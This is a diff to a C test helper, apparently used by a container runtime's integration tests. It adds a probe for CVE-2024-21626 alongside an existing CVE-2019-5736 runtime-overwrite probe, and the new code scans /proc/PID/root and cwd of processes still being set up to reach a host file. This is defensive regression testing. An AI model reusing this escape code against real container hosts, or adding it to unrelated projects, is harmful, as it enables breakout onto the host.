@@ -1,4 +1,6 @@
-/* CVE-2019-5736 as a container would try it: runs as a process of the container (root,
+/* Two attacks of a container on the runtime's processes in its pid namespace.
+ *
+ * CVE-2019-5736 as a container would try it: runs as a process of the container (root,
  * no extra capabilities) and waits for the next process of its pid namespace to run an
  * executable that is not the container's own (the runtime, re-run through a
  * "#!/proc/self/exe" script). It holds that executable open, kills the process, and
@@ -10,7 +12,17 @@
  *   WROTE <path>             the executable was changed: the runtime is exposed
  *   REFUSED <errno text>     it could not be written
  *   NOTHING                  no foreign executable was seen before the deadline
- * Built statically by the integration test (Tests/IntegrationTests/RuntimeImageTests.swift). */
+ *
+ * CVE-2024-21626 against a process that is still being set up (needs CAP_SYS_PTRACE):
+ * usage: exe-attack reach SECONDS REPORT HOST-PATH
+ * watches each new process of the namespace while it still runs the runtime's image (not
+ * this program or /bin/busybox) and
+ * reports whether HOST-PATH (a file on the host, outside the container) is reachable
+ * through its /proc/PID/root or /proc/PID/cwd:
+ *   SETUP <pid>              looked at a process still being set up
+ *   HOST <pid> <root|cwd>    the host file was reachable through it
+ *
+ * Built statically by the integration tests (RuntimeImageTests, HostReachTests). */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
@@ -43,7 +55,10 @@ static long last_pid(int fd) {
     return strtol(buf, NULL, 10);
 }
 
+static int reach(int argc, char **argv);
+
 int main(int argc, char **argv) {
+    if (argc > 1 && strcmp(argv[1], "reach") == 0) return reach(argc - 1, argv + 1);
     if (argc < 3) return 2;
     double deadline = now() + atof(argv[1]);
     report = fopen(argv[2], "a");
@@ -110,5 +125,38 @@ int main(int argc, char **argv) {
         }
     }
     if (!found) say("NOTHING%s\n", "", -1);
+    return 0;
+}
+
+static int reach(int argc, char **argv) {
+    if (argc < 4) return 2;
+    double deadline = now() + atof(argv[1]);
+    report = fopen(argv[2], "a");
+    if (!report) return 2;
+    const char *marker = argv[3];
+    struct stat self, shell;
+    if (stat("/proc/self/exe", &self) != 0 || stat("/bin/busybox", &shell) != 0) return 2;
+    int lastfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
+    if (lastfd < 0) return 2;
+    long seen = -1;
+    while (now() < deadline) {
+        long last = last_pid(lastfd);
+        for (long pid = last; pid <= last + 1 && pid > 1; pid++) {
+            if (pid == getpid()) continue;
+            char path[600];
+            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
+            struct stat exe;
+            /* Only while it still runs the runtime (not yet the exec'd program). */
+            if (stat(path, &exe) != 0) continue;
+            if ((exe.st_dev == self.st_dev && exe.st_ino == self.st_ino) ||
+                (exe.st_dev == shell.st_dev && exe.st_ino == shell.st_ino)) continue;
+            if (pid != seen) { say("SETUP %ld%s\n", "", pid); seen = pid; }
+            const char *links[] = {"root", "cwd"};
+            for (int i = 0; i < 2; i++) {
+                snprintf(path, sizeof path, "/proc/%ld/%s/%s", pid, links[i], marker);
+                if (access(path, F_OK) == 0) say("HOST %ld %s\n", links[i], pid);
+            }
+        }
+    }
     return 0;
 }
